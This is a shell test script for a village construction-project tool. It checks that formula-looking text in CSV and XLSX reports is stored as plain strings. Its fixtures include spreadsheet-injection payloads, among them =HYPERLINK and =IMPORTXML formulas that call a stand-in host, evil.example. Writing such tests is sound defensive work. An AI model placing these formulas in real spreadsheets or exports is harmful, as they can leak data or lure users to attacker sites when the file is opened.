# Text that looks like a formula (=HYPERLINK(...), @SUM(A1), +1+1, -2+3, a
# leading tab) goes into a workbook as a string cell, the same text as in
# the CSV; no sheet of any workbook holds a formula
. "$TESTS/lib.sh"
. "$TESTS/tools/xlsx.sh"

demo d
day=2023-06-15
expect 0 vl-add -C d project --id P91 \
    --town '=HYPERLINK("http://evil.example/","点击")' --village '@SUM(A1)' \
    --leader '+1+1' --specialist '-2+3' --budget 0
expect 0 vl-add -C d project --id P92 --town '=1+1' --village cmd \
    --leader 000123 --specialist 123456789012345 --budget 0
# a name with a tab the tools refuse (or trim): a file edited by hand
sed -i 's/^P92,=1+1,cmd,/P92,=1+1,"\t=cmd",/' d/projects.csv
grep -q '^P92,=1+1,"	=cmd",' d/projects.csv || fail "the tab was not put in by hand"
# Excel reads _x0041_ in a string as "A": a literal one must stay itself
expect 0 vl-add -C d project --id P93 --town 河口镇 --village _x0041_村 \
    --leader a_x005F_b --specialist 专干 --budget 0
expect 0 vl-inspect -C d add --project P91 --phase check --aspect safety \
    --result fail --finding '=IMPORTXML("http://evil.example/",".")' \
    --due 2023-06-01 --date 2023-05-20

vl-report -C d overdue --as-of $day > overdue.csv
expect 0 vl-report -C d overdue --as-of $day --format xlsx -o overdue.xlsx
xcmp overdue.xlsx "逾期清单 $day" overdue.csv due=date days_late=int
vl-report -C d progress --by project --as-of $day > projects.csv
expect 0 vl-report -C d progress --by project --as-of $day --format xlsx \
    -o projects.xlsx
xcmp projects.xlsx "项目进度 $day" projects.csv reviewed=date started=date \
    completed=date accepted=date open_findings=int overdue_findings=int
vl-fund -C d balance --as-of $day > balance.csv
expect 0 vl-fund -C d balance --as-of $day --format xlsx -o balance.xlsx
xcmp balance.xlsx "项目资金 $day" balance.csv budget=money allocated=money \
    spent=money construction=money equipment=money remaining=money
expect 0 vl-report -C d summary --as-of $day --format xlsx -o summary.xlsx

for f in overdue.csv projects.csv balance.csv; do
	has $f '=HYPERLINK(""http://evil.example/"",""点击"")'
	has $f '@SUM(A1)'
done
has overdue.csv '=IMPORTXML'
has projects.csv 'P93,河口镇,_x0041_村,a_x005F_b'
# as Excel reads it back: _xHHHH_ decoded, and the literal ones kept
"$PY" - projects.xlsx <<'PY' || fail "projects.xlsx: _x0041_ not kept"
import re, sys, zipfile
ss = zipfile.ZipFile(sys.argv[1]).read('xl/sharedStrings.xml').decode()
texts = [re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), t)
         for t in re.findall(r'<t[^>]*>([^<]*)</t>', ss)]
assert '_x0041_村' in texts and 'a_x005F_b' in texts, texts
PY
# the cells, one by one
py "
ws = openpyxl.load_workbook('projects.xlsx').worksheets[0]
row = [r for r in ws.iter_rows(min_row=2) if r[0].value == 'P91'][0]
want = ['P91', '=HYPERLINK(\"http://evil.example/\",\"点击\")', '@SUM(A1)',
    '+1+1', '-2+3']
for c, w in zip(row, want):
    assert c.data_type == 's' and c.value == w, (c.coordinate, c.value, c.data_type)
row = [r for r in ws.iter_rows(min_row=2) if r[0].value == 'P92'][0]
want = ['P92', '=1+1', '\t=cmd', '000123', '123456789012345']
for c, w in zip(row, want):
    assert c.data_type == 's' and c.value == w, (c.coordinate, c.value, c.data_type)
" || fail "projects.xlsx: formula-looking text not kept as text"
# no <f> element anywhere: nothing is a formula, whatever reads the file
for b in *.xlsx; do
	"$PY" - "$b" <<'PY' || fail "$b: a formula in a sheet"
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
for n in z.namelist():
    if n.startswith('xl/worksheets/') and re.search(rb'<f[ >]', z.read(n)):
        sys.exit(1)
PY
done
done_
